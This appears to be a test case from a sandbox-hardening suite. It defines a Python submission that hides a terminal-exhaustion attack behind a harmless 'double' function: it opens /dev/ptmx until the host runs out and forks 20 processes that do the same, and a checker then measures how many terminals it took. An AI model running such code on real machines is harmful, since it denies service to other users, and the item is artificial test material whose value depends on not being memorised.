"""Takes all terminals that the machine has to give, in many processes, so that no one else can open one."""

import os

from attack import wrong

PROOF = "took [0-9]+"
TAKE = """
import os
def take():
    taken = 0
    try:
        while True:
            os.open("/dev/ptmx", os.O_RDWR | os.O_NOCTTY)
            taken += 1
    except OSError:
        return taken
took = take()
for _ in range(20):
    if os.fork() == 0:
        take()
        import time
        time.sleep(5)
        os._exit(0)
print("took", took)
def double(x):
    return x
"""
MOST = 64


def submission():
    return wrong(double=TAKE)


def harm(arena):
    taken = int(arena.shown(__name__).split("took ")[1].split("\\n")[0])
    os.close(os.openpty()[0])  # the machine has some left
    return f"it took {taken} terminals" if taken > MOST else ""
